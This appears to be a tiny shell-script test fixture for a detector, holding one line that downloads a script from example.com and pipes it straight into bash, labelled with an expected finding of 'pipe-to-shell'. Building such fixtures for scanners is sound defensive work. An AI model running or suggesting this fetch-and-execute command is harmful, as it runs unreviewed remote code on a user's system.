#!/bin/sh
curl -fsSL https://example.com/by-cd.sh | bash # expect: pipe-to-shell
